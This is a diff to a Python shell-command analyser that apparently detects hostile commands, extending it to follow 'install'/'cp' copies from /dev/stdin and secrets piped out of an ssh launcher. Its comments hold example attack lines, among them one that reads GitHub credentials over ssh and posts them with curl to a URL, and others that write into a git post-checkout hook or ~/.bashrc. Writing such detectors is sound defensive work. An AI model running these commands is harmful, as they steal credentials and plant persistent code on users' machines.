@@ -398,6 +398,10 @@ def _assess_model(
         if judged.rules:
             judged = _in_context(judged, facts, inv, index, model.invocations, prod_ctx or switched, subject,
                                  printed, model.source)
+            if launcher is not None and id(facts) in printed:
+                # `ssh host 'cat ~/.config/gh/hosts.yml' | curl -d @- URL`: the remote shell's output is
+                # what its command prints there, so a pipe from the launcher carries the secret on
+                printed.add(id(launcher))
         parts.append(judged)
 
         if name in _REREAD_PROGRAMS or inv.name in _REREAD_PROGRAMS:
@@ -3192,6 +3196,21 @@ def _mounts(launcher: Facts) -> tuple[tuple[str, str], ...]:
 # --- checks across invocations ------------------------------------------------------------------
 
 
+# Copiers that take stdin as their source when it is named `/dev/stdin` (or `-`): `install -m 755
+# /dev/stdin .git/hooks/post-checkout <<EOF`, `cp /dev/stdin ~/.bashrc`.
+_STDIN_COPIERS = frozenset({"install", "cp", "ginstall"})
+_STDIN_NAMES = ("/dev/stdin", "/dev/fd/0", "/proc/self/fd/0")
+
+
+def _stdin_copied_to(facts: Facts) -> PathInfo | None:
+    """The file a copier writes what it reads on stdin into (`install -m 755 /dev/stdin DEST`): DEST
+    then holds the here-doc or the piped text, as `cat > DEST` would."""
+    operands = facts.parsed.positionals
+    if len(operands) != 2 or operands[0] not in _STDIN_NAMES:
+        return None
+    return facts.path(operands[1])
+
+
 def _payload(facts: Facts) -> str | None:
     """The literal text an echo/printf (or a tee fed by one) writes, when it is computable."""
     from dongle.shell.literal import output
@@ -3201,9 +3220,11 @@ def _payload(facts: Facts) -> str | None:
             return output(facts.name, list(facts.inv.argv), None)
         except ValueError:
             return None
-    if facts.name in ("tee", "cat"):
-        # `cat > f <<EOF … EOF` (cat reads stdin only without operands), `tee f <<EOF … EOF`
-        if facts.inv.stdin_text is not None and (facts.name == "tee" or not facts.parsed.positionals):
+    if facts.name in ("tee", "cat", *_STDIN_COPIERS):
+        # `cat > f <<EOF … EOF` (cat reads stdin only without operands), `tee f <<EOF … EOF`, `install
+        # /dev/stdin f <<EOF`
+        if facts.inv.stdin_text is not None and (facts.name == "tee" or not facts.parsed.positionals or (
+                facts.name in _STDIN_COPIERS and facts.parsed.positionals[0] in _STDIN_NAMES)):
             return facts.inv.stdin_text
         texts = [_payload(f) for f in facts.feeders]
         return "\n".join(t for t in texts if t) or None
@@ -4465,6 +4486,9 @@ def _cross_checks(
     targets = list(facts.write_redirects)
     if facts.name == "tee":
         targets.extend(facts.write_paths)
+    stdin_copy = _stdin_copied_to(facts) if facts.name in _STDIN_COPIERS else None
+    if stdin_copy is not None:
+        targets.append(stdin_copy)
     payload = _payload(facts) if targets else None
     if payload is None and targets and facts.name == "base64" and facts.parsed.positionals and (
             {"-d", "--decode", "-D"} & facts.parsed.flags):
@@ -5372,9 +5396,9 @@ _DOWNLOADERS = frozenset({"curl", "wget", "aria2c", "fetch", "http", "https", "x
 # The programs `_cross_checks` judges by name: tee (what it writes), git config and clones, npm/pnpm/yarn
 # pkg set, crontab, redis-cli fed commands, downloads, database clients fed a script, warehouse clients,
 # ansible and salt payloads.
-_CROSS_CHECKED = frozenset({"tee", "git", "gh", "npm", "pnpm", "yarn", "go", "pip", "pip3", "crontab",
-                            "incrontab", "systemd-tmpfiles", "redis-cli", "bq", "cqlsh", "expect", "puppet",
-                            "ansible", "ansible-playbook", "salt", "salt-ssh", *_DOWNLOADERS,
+_CROSS_CHECKED = frozenset({"tee", *_STDIN_COPIERS, "git", "gh", "npm", "pnpm", "yarn", "go", "pip", "pip3",
+                            "crontab", "incrontab", "systemd-tmpfiles", "redis-cli", "bq", "cqlsh", "expect",
+                            "puppet", "ansible", "ansible-playbook", "salt", "salt-ssh", *_DOWNLOADERS,
                             *_SCRIPT_CLIENTS, *_WAREHOUSE_SQL_OPTIONS})
 
 
